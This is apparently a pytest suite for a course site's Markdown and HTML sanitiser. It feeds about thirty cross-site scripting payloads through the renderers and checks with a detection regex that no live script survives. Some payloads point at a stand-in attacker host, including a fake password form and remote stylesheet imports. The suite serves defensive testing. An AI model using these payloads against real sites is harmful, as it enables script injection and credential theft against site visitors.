"""What authors write, as readers get it."""

import re

import pytest

from courses.catalogue.text import clean_html, render_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<style>@import 'https://evil.example/x.css'</style><p style='background:url(javascript:alert(1))'>x</p>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video><source onerror='alert(1)'></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<p id='submit' name='attributes'>x</p>",
    '<a href="x" title=\'"onmouseover="alert(1)\'>x</a>',
]
LIVE = re.compile(
    r"<(script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|noscript)\b"
    r"|<[^>]*\s(on\w+|style|srcdoc|action|id|name)\s*="
    r"|(href|src|poster)\s*=\s*[\"']?\s*(javascript|data|vbscript|file):",
    re.IGNORECASE,
)


def tags_of(html: str) -> str:
    """The tags alone, with attribute values emptied: what a browser would act on."""
    return re.sub(r'(title|alt)="[^"]*"', r'\1=""', " ".join(re.findall(r"<[^>]*>", html)))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("render", [render_text, clean_html])
def test_nothing_that_acts_reaches_a_reader(attack, render):
    for source in (attack, f"# Title\n\n{attack}\n\ntext", f"- item {attack}\n\n> {attack}"):
        assert not LIVE.search(tags_of(render(source))), render(source)


def test_the_corpus_is_dangerous_where_it_is_not_cleaned():
    assert sum(bool(LIVE.search(tags_of(attack))) for attack in ATTACKS) > len(ATTACKS) * 2 / 3


def test_markdown_becomes_what_it_means():
    html = render_text("# Signs\n\n*A* is **first**; ~~B~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```")
    for part in (
        "<h1>Signs</h1>",
        "<em>A</em>",
        "<strong>first</strong>",
        "<td>1</td>",
        '<code class="language-python">',
    ):
        assert part in html


def test_html_in_markdown_stays_where_it_is_harmless():
    source = (
        '<div lang="hi"><img src="asset:12" alt="A"></div>\n\n<video controls src="https://example.com/a.mp4"></video>'
    )
    html = render_text(source)
    assert '<img src="asset:12" alt="A">' in html
    assert '<div lang="hi">' in html
    assert 'src="https://example.com/a.mp4"' in html


def test_links_tell_nothing_of_where_they_came_from():
    assert 'rel="noopener noreferrer"' in render_text("[x](https://example.com)")


def test_plain_text_of_many_scripts_is_kept():
    assert "हिन्दी वर्णमाला" in render_text("हिन्दी वर्णमाला")
    assert render_text("") == ""
